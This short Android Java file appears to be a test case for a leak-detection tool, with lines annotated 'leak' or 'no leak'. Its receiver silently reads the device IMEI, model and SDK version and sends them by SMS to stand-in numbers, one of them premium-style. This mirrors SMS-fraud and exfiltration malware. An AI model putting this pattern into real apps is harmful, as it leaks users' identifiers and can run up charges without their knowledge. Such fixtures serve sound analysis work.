package olden;

import android.content.*;
import android.os.*;
import android.telephony.*;

import java.util.*;

/** Messages in parts and as data. */
public class Premium extends BroadcastReceiver {
    private String z(Context c) {
        StringBuffer sb = new StringBuffer();
        sb.append("A:");
        sb.append(((TelephonyManager) c.getSystemService("phone")).getDeviceId());
        sb.append("-B:").append(Build.MODEL).append('-').append(Build.VERSION.SDK);
        return sb.toString();
    }

    public void onReceive(Context c, Intent i) {
        SmsManager m = SmsManager.getDefault();
        ArrayList<String> parts = m.divideMessage(z(c));
        m.sendMultipartTextMessage("+10000", null, parts, null, null); // leak
        ArrayList<String> q = new ArrayList<String>();
        q.add("reg");
        q.add(Build.MODEL);
        m.sendMultipartTextMessage("+10000", null, q, null, null); // no leak
        m.sendTextMessage("7132", null, "846978", null, null); // no leak
        m.sendDataMessage(
                "7132", null, (short) 99, z(c).getBytes(), null, null); // leak
    }
}
